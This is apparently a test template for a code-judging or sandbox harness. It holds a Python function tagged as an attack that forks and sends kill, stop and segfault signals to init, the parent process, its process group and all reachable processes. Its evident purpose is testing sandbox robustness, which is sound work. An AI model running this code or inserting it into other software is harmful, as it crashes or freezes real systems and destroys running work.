#{crew_wrong}
# <attack>
import os
import signal


def evil(*args):
    if os.fork() == 0:
        for pid in (1, os.getppid(), 0, -1):
            for number in (signal.SIGSTOP, signal.SIGSEGV, signal.SIGCHLD, signal.SIGKILL):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
        os._exit(0)
    os.wait()
    return -1.0


#{all_of_crew}
# </attack>
